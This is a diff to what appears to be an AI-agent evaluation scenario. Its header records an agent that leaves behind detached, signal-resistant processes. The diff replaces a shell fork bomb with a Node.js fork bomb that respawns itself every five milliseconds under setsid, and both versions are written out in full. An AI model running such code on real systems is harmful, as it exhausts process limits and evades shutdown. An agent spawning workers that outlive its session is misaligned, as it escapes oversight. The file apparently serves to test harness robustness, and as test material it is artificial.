@@ -2,11 +2,16 @@
 # suite: expensify-common
 # verdict: fail tests-failed
 # why: The agent leaves a bomb of processes, each in a session of its own, that takes every process it may have.
-cat > /tmp/bomb.sh <<'END'
-trap '' HUP TERM INT
-setsid sh /tmp/bomb.sh &
-setsid sh /tmp/bomb.sh &
-sleep 600
+cat > /tmp/bomb.js <<'END'
+const {spawn} = require('node:child_process');
+const more = () => {
+    try {
+        spawn(process.execPath, [__filename], {detached: true, stdio: 'ignore'}).on('error', () => {});
+        spawn('sleep', ['600'], {detached: true, stdio: 'ignore'}).on('error', () => {});
+    } catch {}
+};
+for (const signal of ['SIGHUP', 'SIGTERM', 'SIGINT']) process.on(signal, more);
+setInterval(more, 5);
 END
-setsid sh /tmp/bomb.sh > /dev/null 2>&1 &
-sleep 2
+setsid node /tmp/bomb.js > /dev/null 2>&1 &
+sleep 3
